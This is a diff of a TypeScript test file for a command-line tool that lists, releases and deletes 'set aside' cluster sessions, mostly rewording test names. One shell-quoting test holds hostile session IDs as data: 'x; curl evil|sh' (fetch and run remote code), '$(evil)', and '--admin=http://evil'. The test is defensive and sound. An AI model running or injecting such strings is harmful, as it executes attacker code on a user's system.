@@ -1,4 +1,4 @@
-// Holds rules of docs/spec: R-POIS-2, R-POIS-5: a session that is set aside is listed as that, told of, and released.
+// Holds rules of docs/spec: R-POIS-2, R-POIS-5: a session that is set aside is listed, explained and released.
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
@@ -51,7 +51,7 @@ beforeAll(async () => {
     })
   })
   await new Promise<void>((listens) => server?.listen(0, '127.0.0.1', listens))
-  // It listens at a port, so its address has one.
+  // True: it listens on a port, so its address has one.
   url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
 })
 afterAll(() => void server?.close())
@@ -67,21 +67,21 @@ async function said(...words: readonly string[]): Promise<string> {
   return program.written()
 }
 
-test('a list says which session is set aside, why, and how it is released', async () => {
+test('lists which session is set aside, why, and how to release it', async () => {
   const text = await said()
   expect(text).toContain('  is set aside: its work has ended three workers (last: http://w1:9080')
   expect(text).toContain('  release it with: halting sessions release s-1 --cluster URL\n')
   expect(text).not.toContain('restate invocations resume')
 })
 
-test('a release takes the deaths back, and then has the engine go on', async () => {
+test('clears the counted deaths on release, and then resumes the work', async () => {
   expect(await said('release', 's-1')).toBe('Released: s-1. Its work continues.\n')
   expect(asked.indexOf('POST /halting_attempts/s-1/release')).toBeLessThan(
     asked.indexOf('PATCH /invocations/inv_1/resume'),
   )
 })
 
-test('a session that is not set aside is left alone, and its state is said', async () => {
+test('reports the state of a session that is not set aside, and does not change it', async () => {
   await said('release', 's-1')
   asked = []
   await expect(said('release', 's-1')).rejects.toThrow('The session s-1 is not set aside. halting why s-1')
@@ -92,13 +92,13 @@ test('a session that is not set aside is left alone, and its state is said', asy
   await expect(sessions({}, ['release', 's-1'], program)).rejects.toThrow('needs the address of the cluster')
 })
 
-test('whoever chose the id of a session runs nothing in the shell that a release is pasted into', () => {
+test('quotes session IDs for the shell in the release command', () => {
   expect(releaseCommand('x; curl evil|sh')).toBe('halting sessions release "x; curl evil|sh" --cluster URL')
   expect(releaseCommand('$(evil)')).toBe("halting sessions release '$(evil)' --cluster URL")
   expect(releaseCommand('--admin=http://evil')).toBe('halting sessions release --cluster URL -- --admin=http://evil')
 })
 
-test('a session that is set aside is deleted without running again, by force alone', async () => {
+test('deletes a session that is set aside without running it, but only with --force', async () => {
   const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
   const flags = { cluster: url, admin: url, yes: true }
   await expect(sessionsOnCluster(flags, ['delete', 's-1'], program)).rejects.toThrow('--force')
